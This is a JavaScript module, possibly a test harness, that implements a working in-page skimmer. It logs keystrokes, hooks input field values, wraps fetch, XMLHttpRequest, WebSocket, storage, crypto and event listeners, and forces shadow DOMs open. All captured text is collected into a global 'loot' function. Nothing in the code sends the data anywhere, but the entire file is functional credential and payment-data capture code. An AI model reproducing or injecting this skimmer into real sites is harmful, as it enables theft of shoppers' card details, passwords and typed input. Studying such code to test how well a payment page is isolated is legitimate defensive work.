/**
 * Runs in a merchant's page before any script of its own, as a skimmer would:
 * whatever passes through what a page can wrap or listen to is kept as text.
 */
export function skim() {
  const loot = [];
  let keys = "";
  const stringify = JSON.stringify;
  const decoder = new TextDecoder("latin1");

  /** What a thief would read out of a value. */
  const textOf = (value, depth = 0) => {
    if (value === null || typeof value !== "object") return typeof value === "function" ? "" : String(value);
    if (depth > 4 || value instanceof Node || value === window) return "";
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return decoder.decode(value);
    const names = value instanceof Event ? ["type", "key", "data", "detail"] : Object.keys(value);
    return names.map((name) => {
      try {
        return `${name}=${textOf(value[name], depth + 1)}`;
      } catch {
        return "";
      }
    }).join(" ");
  };
  // What is wrapped is used here too.
  let isBusy = false;
  const take = (channel, values) => {
    if (isBusy) return;
    isBusy = true;
    try {
      for (const value of values) loot.push(`${channel}: ${textOf(value)}`);
    } finally {
      isBusy = false;
    }
  };

  const wrap = (owner, name) => {
    const original = owner?.[name];
    if (typeof original !== "function") return;
    owner[name] = function (...args) {
      take(name, args);
      const given = Reflect.apply(original, this, args);
      if (typeof given?.then === "function") given.then((value) => take(`${name} gave`, [value]), () => {});
      else take(`${name} gave`, [given]);
      return given;
    };
  };
  for (const [owner, names] of [
    [window, ["fetch", "postMessage", "structuredClone", "btoa", "atob", "open"]],
    [navigator, ["sendBeacon"]],
    [JSON, ["parse", "stringify"]],
    [XMLHttpRequest.prototype, ["open", "send", "setRequestHeader"]],
    [WebSocket.prototype, ["send"]],
    [MessagePort.prototype, ["postMessage"]],
    [Storage.prototype, ["setItem", "getItem"]],
    [IDBObjectStore.prototype, ["put", "add"]],
    [EventTarget.prototype, ["dispatchEvent"]],
    [TextEncoder.prototype, ["encode", "encodeInto"]],
    [TextDecoder.prototype, ["decode"]],
    [SubtleCrypto.prototype, ["encrypt", "sign", "digest", "importKey"]],
    [Element.prototype, ["setAttribute"]],
    [Array.prototype, ["join", "map"]],
    [String.prototype, ["replace", "slice", "trim"]],
    [Map.prototype, ["set"]],
  ]) {
    for (const name of names) wrap(owner, name);
  }

  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    const heard = typeof listener !== "function" ? listener : function (event) {
      take(`a listener of ${type}`, [event]);
      return Reflect.apply(listener, this, [event]);
    };
    return Reflect.apply(listen, this, [type, heard, options]);
  };
  for (const type of ["keydown", "keypress", "keyup", "beforeinput", "input", "change", "paste", "copy", "message", "submit"]) {
    listen.call(window, type, (event) => {
      if (type === "keydown") keys += event.key;
      take(type, [event, event.composedPath?.()[0]?.value]);
    }, true);
  }

  const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
  Object.defineProperty(HTMLInputElement.prototype, "value", {
    configurable: true,
    get() {
      const value = get.call(this);
      take("value", [value]);
      return value;
    },
    set(value) {
      take("value", [value]);
      set.call(this, value);
    },
  });

  const roots = [];
  const watch = (root) =>
    new MutationObserver((records) => {
      for (const { target, type } of records) take(type, [target.textContent, target.outerHTML]);
    }).observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) {
    const root = attach.call(this, { ...options, mode: "open" });
    roots.push(root);
    watch(root);
    return root;
  };
  watch(document);

  /** All that was taken, and what can be read off the page now. */
  globalThis.loot = () => {
    const seen = [document, ...roots].flatMap((root) => {
      const inputs = [...root.querySelectorAll("input")].map((input) => get.call(input));
      const frames = [...root.querySelectorAll("iframe")].map((frame) => {
        try {
          return frame.contentDocument?.documentElement.outerHTML ?? "closed";
        } catch {
          return "closed";
        }
      });
      return [...inputs, ...frames, (root.body ?? root).textContent];
    });
    return stringify([...loot, ...seen, `keys: ${keys}`]);
  };
}
